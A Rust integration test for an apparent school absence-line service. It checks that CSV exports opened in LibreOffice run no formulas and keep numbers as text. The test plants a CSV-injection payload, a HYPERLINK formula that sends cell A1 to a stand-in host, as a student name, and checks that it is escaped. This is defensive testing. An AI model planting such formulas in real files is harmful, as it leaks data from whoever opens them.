//! A CSV export opened in a real spreadsheet (LibreOffice Calc, headless,
//! which evaluates formulas in a CSV it opens) runs no formula and keeps
//! what staff need as text: a roster name that is a `HYPERLINK` formula, a
//! student number with a leading zero, the caller's `+81…` number.

use std::path::Path;
use std::process::Command;

use absence_line::domain::Student;
use absence_line::export::CSV_COLUMNS;
use quick_xml::Reader;
use quick_xml::events::{BytesStart, Event};

use crate::helpers::spawn_app;

const LEAK: &str = r#"=HYPERLINK("http://x.example/?leak="&A1,"y")"#;

/// LibreOffice's command, if it is installed.
fn libreoffice() -> Option<&'static str> {
    ["libreoffice", "soffice"].into_iter().find(|c| {
        Command::new(c)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
    })
}

/// One cell as the spreadsheet holds it.
#[derive(Debug, Clone, Default)]
struct Cell {
    formula: Option<String>,
    value_type: Option<String>,
    text: String,
}

impl Cell {
    fn from(e: &BytesStart) -> (Cell, usize) {
        let attr = |k: &str| {
            e.attributes()
                .flatten()
                .find(|a| a.key.as_ref() == k)
                .map(|a| {
                    a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
                        .unwrap()
                        .into_owned()
                })
        };
        let repeated = attr("table:number-columns-repeated").map_or(1, |n| n.parse().unwrap());
        let cell = Cell {
            formula: attr("table:formula"),
            value_type: attr("office:value-type"),
            text: String::new(),
        };
        // Trailing empty cells are repeated to the sheet's edge: a few do.
        (cell, repeated.min(CSV_COLUMNS.len()))
    }
}

/// The rows of a flat ODF spreadsheet (`.fods`), repeated cells expanded.
fn sheet_rows(fods: &str) -> Vec<Vec<Cell>> {
    let mut r = Reader::from_str(fods);
    let (mut rows, mut row) = (Vec::new(), Vec::new());
    let mut open: Option<(Cell, usize)> = None;
    // A cell's text is in its paragraphs; the rest is indentation.
    let mut in_paragraph = false;
    loop {
        match r.read_event().expect("LibreOffice writes well-formed XML") {
            Event::Start(e) if e.name().as_ref() == "table:table-cell" => {
                open = Some(Cell::from(&e))
            }
            Event::Empty(e) if e.name().as_ref() == "table:table-cell" => {
                let (cell, n) = Cell::from(&e);
                row.extend(std::iter::repeat_n(cell, n));
            }
            Event::Start(e) if e.name().as_ref() == "text:p" => in_paragraph = true,
            Event::End(e) if e.name().as_ref() == "text:p" => in_paragraph = false,
            Event::Text(t) if in_paragraph => {
                if let Some((c, _)) = &mut open {
                    c.text.push_str(&t.xml10_content());
                }
            }
            Event::GeneralRef(x) if in_paragraph => {
                if let Some((c, _)) = &mut open {
                    c.text
                        .push_str(quick_xml::escape::resolve_predefined_entity(&x).unwrap());
                }
            }
            Event::End(e) if e.name().as_ref() == "table:table-cell" => {
                if let Some((cell, n)) = open.take() {
                    row.extend(std::iter::repeat_n(cell, n));
                }
            }
            Event::End(e) if e.name().as_ref() == "table:table-row" => {
                rows.push(std::mem::take(&mut row))
            }
            Event::Eof => return rows,
            _ => {}
        }
    }
}

/// `csv` opened by LibreOffice as an office worker opens it (UTF-8, comma
/// separated, its default column types) and saved as a flat spreadsheet.
fn open_in_libreoffice(soffice: &str, csv: &Path) -> String {
    let dir = csv.parent().unwrap();
    // Its own profile: no clash with a LibreOffice the user has open.
    let profile = format!("-env:UserInstallation=file://{}", dir.join("lo").display());
    let out = Command::new(soffice)
        .arg(profile)
        .args([
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
        ])
        .arg("--outdir")
        .arg(dir)
        .arg(csv)
        .output()
        .unwrap();
    let fods = csv.with_extension("fods");
    assert!(
        out.status.success() && fods.exists(),
        "LibreOffice failed: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::read_to_string(fods).unwrap()
}

#[tokio::test]
async fn a_csv_export_opened_in_a_spreadsheet_runs_no_formula_and_keeps_numbers_as_text() {
    let Some(soffice) = libreoffice() else {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI must have LibreOffice Calc (.ci/run installs libreoffice-calc)"
        );
        eprintln!("skipped: LibreOffice is not installed (apt-get install libreoffice-calc)");
        return;
    };
    let (app, dir) = spawn_app().await;
    app.store("daiichi")
        .replace_students(
            &[Student {
                student: "01234".into(),
                grade: "1".into(),
                class: "2".into(),
                number: "3".into(),
                name: LEAK.into(),
                ..Default::default()
            }],
            "roster_import",
            "test",
        )
        .unwrap();
    let mut p = app.phone("daiichi");
    p.from = "+819012345678".into();
    p.dial().await;
    p.press("1").await; // Japanese
    p.press("01234#").await;
    p.press("2").await; // absent, another reason
    p.press("4").await; // family reasons
    p.press("1").await; // today
    p.press("1").await; // save
    let stored = app.reports("daiichi");
    assert_eq!(stored.len(), 1);

    let out = Command::new(env!("CARGO_BIN_EXE_absence-line"))
        .args(["--config", app.config_path.to_str().unwrap()])
        .args([
            "export",
            "--school",
            "daiichi",
            "--date",
            &stored[0].school_day,
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let csv = dir.path().join("export.csv");
    std::fs::write(&csv, &out.stdout).unwrap();

    let rows = sheet_rows(&open_in_libreoffice(soffice, &csv));
    assert!(rows.len() >= 2, "{rows:#?}");
    let formulas: Vec<&Cell> = rows
        .iter()
        .flatten()
        .filter(|c| c.formula.is_some())
        .collect();
    assert!(
        formulas.is_empty(),
        "formulas were evaluated: {formulas:#?}"
    );
    let header: Vec<&str> = rows[0].iter().map(|c| c.text.as_str()).collect();
    assert_eq!(&header[..CSV_COLUMNS.len()], CSV_COLUMNS);
    let cell = |name: &str| &rows[1][CSV_COLUMNS.iter().position(|c| *c == name).unwrap()];
    let text = |name: &str| {
        let c = cell(name);
        assert_eq!(c.value_type.as_deref(), Some("string"), "{name}: {c:?}");
        c.text.as_str()
    };
    assert_eq!(text("name"), format!("'{LEAK}"), "the formula is text");
    assert_eq!(text("student"), "'01234", "the leading zero is kept");
    assert_eq!(text("caller"), "'+819012345678", "the whole number");
    assert_eq!(text("kind_label"), "欠席");
    assert_eq!(
        cell("reference").value_type.as_deref(),
        Some("float"),
        "numbers stay numbers"
    );
}
